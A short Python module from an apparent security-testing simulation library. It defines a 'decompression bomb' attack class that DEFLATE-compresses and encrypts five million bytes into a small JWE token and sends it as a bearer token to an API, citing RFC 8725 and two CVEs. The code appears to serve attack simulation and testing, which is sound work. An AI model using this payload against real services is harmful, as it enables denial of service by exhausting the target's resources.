"""Decompression bomb: a small encrypted token that expands to a large one."""

from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack, send
from simlib.scenario.effects import Answer, Context, Flow
from simlib.scenario.messages import HttpRequest
from simlib.tokens import encrypt_text

INFLATED_BYTES = 5_000_000
"""DEFLATE reduces it to a thousandth, which fits into a header."""


class DecompressionBomb(TokenAttack):
    """Encryption hides the content from every party but the target."""

    name: ClassVar[str] = "decompression_bomb"
    summary: ClassVar[str] = "an encrypted token that is compressed a thousandfold"
    source: ClassVar[str] = "RFC 8725 section 3.6; CVE-2024-33664, CVE-2024-21319"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
    single_use: ClassVar[bool] = True
    work_threshold: ClassVar[int] = 1_000_000

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Compress and encrypt the content."""
        yield from ()
        if self.assets.encryption_jwk is None:
            return NotApplicable("no tokens are decrypted here")
        bomb = encrypt_text(b"A" * INFLATED_BYTES, self.assets.encryption_jwk, compressed=True)
        return (Candidate(f"{len(bomb):,} bytes that become {INFLATED_BYTES:,}", bomb),)

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send it as a bearer token."""
        return send("api", HttpRequest(f"Bearer {candidate.value}"))
